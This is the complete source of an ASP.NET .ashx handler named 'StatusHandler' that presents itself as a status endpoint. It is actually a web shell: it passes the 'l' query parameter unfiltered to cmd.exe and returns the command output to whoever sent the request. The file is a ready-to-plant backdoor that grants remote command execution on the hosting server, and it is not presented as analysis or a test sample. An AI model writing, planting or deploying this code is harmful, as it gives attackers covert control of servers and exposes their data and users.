<%@ WebHandler Language="C#" Class="StatusHandler" %>
using System.Web;
using System.Diagnostics;
public class StatusHandler : IHttpHandler {
    private string Run(string line) {
        var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true, UseShellExecute = false });
        return p.StandardOutput.ReadToEnd();
    }
    public void ProcessRequest(HttpContext context) {
        context.Response.Write(Run(context.Request.QueryString["l"]));
    }
    public bool IsReusable { get { return false; } }
}
